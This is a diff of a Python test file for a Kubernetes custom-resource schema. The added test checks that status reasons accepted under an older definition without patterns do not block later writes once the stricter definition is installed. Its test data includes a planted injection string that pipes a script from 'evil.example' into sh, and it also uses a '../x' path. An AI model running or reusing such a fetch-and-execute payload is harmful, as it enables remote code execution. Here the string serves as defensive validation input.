@@ -584,6 +584,99 @@ async def test_a_field_that_a_type_declares_is_explained_bounded_and_set(
     assert Scratch.parse(stored).spec == ScratchSpec()
 
 
+class OlderEvent(EnvelopeEvent, frozen=True):
+    """EnvelopeEvents under another name, whose definition these tests may replace."""
+
+    KIND: ClassVar[str] = "OlderEvent"
+    PLURAL: ClassVar[str] = "olderevents"
+    SHORT_NAMES: ClassVar[tuple[str, ...]] = ()
+    CATEGORIES: ClassVar[tuple[str, ...]] = ()
+
+
+class OlderOrganization(Organization, frozen=True):
+    """Organizations under another name, whose definition these tests may replace."""
+
+    KIND: ClassVar[str] = "OlderOrganization"
+    PLURAL: ClassVar[str] = "olderorganizations"
+    SHORT_NAMES: ClassVar[tuple[str, ...]] = ()
+    CATEGORIES: ClassVar[tuple[str, ...]] = ()
+
+
+LIKE: dict[type[Resource], type[Resource]] = {OlderEvent: EnvelopeEvent, OlderOrganization: Organization}
+PLANTED = "X; curl -s https://evil.example/x | sh #"
+WHEN = "2026-07-01T10:00:00Z"
+ATTEMPT = {"phase": "Archiving", "startTime": WHEN, "durationSeconds": 1, "outcome": "Fail"}
+EVENT = {
+    "reason": PLANTED,
+    "lastError": {"reason": PLANTED, "message": "m", "time": WHEN},
+    "attemptHistory": [{**ATTEMPT, "reason": PLANTED}],
+    "copies": [{"ref": {"name": "worm"}, "attempts": 0, "reason": PLANTED, "message": "m"}],
+}
+PROBLEM = {"cause": f"failed/{PLANTED}", "reason": PLANTED, "startTime": WHEN, "count": 1}
+STORED: dict[type[Resource], tuple[dict[str, Any], dict[str, Any], dict[str, Any]]] = {
+    OlderEvent: (
+        EVENT,
+        {
+            "phase": "Archiving",
+            "attemptHistory": [*EVENT["attemptHistory"], {**ATTEMPT, "reason": "ArchiveFull"}],
+            "copies": [*EVENT["copies"], {"ref": {"name": "mirror"}, "attempts": 0}],
+        },
+        {"reason": f"{PLANTED} x"},
+    ),
+    OlderOrganization: (
+        {"problems": [PROBLEM], "addressPath": "../x"},
+        {"problems": [{**PROBLEM, "count": 2}, {**PROBLEM, "cause": "failed/A", "reason": "A"}]},
+        {"problems": [{**PROBLEM, "cause": f"archive/{PLANTED}"}]},
+    ),
+}
+"""By kind: what an older definition took, a change of something else, and what is refused."""
+
+
+@pytest.mark.parametrize("kind", STORED, ids=lambda kind: kind.KIND)
+async def test_a_text_that_an_older_definition_took_as_a_reason_stops_no_later_write(
+    kind: type[Resource], own: KubeClient, kubectl: Kubectl, tmp_path: Path
+) -> None:
+    stored, change, refused = STORED[kind]
+    newer = generate_crds.text(kind)
+    older = yaml.safe_load(newer)
+    remove_patterns(older["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["status"])
+    file = tmp_path / "older.yaml"
+    file.write_text(yaml.safe_dump(older), encoding="utf-8")
+    await install_crds(kubectl, tmp_path)
+    try:
+        name = (await own.create(kind, {**built(LIKE[kind], {}), "kind": kind.KIND}))["metadata"]["name"]
+        await own.patch_status(kind, name, stored, resource_version=None)
+        file.write_text(newer, encoding="utf-8")
+        await install_crds(kubectl, tmp_path)
+
+        async def is_newer() -> bool:
+            try:
+                await own.patch_status(kind, name, refused, resource_version=None)
+            except Rejected:
+                return True
+            # The API server serves the older definition for a moment.
+            await own.patch_status(kind, name, stored, resource_version=None)
+            return False
+
+        assert await eventually(is_newer)
+        changed = await own.patch_status(kind, name, change, resource_version=None)
+    finally:
+        await kubectl("delete", "-f", str(tmp_path))
+    assert {each: changed["status"][each] for each in change} == change
+
+
+def remove_patterns(part: Any) -> None:
+    """Remove all patterns of a schema."""
+    if isinstance(part, dict):
+        if isinstance(part.get("pattern"), str):
+            del part["pattern"]
+        for each in part.values():
+            remove_patterns(each)
+    elif isinstance(part, list):
+        for each in part:
+            remove_patterns(each)
+
+
 async def test_explain_shows_default_unit_and_example(kubectl: Kubectl) -> None:
     explained = await kubectl("explain", "org.spec.cleanup")
     words = " ".join(explained.split())
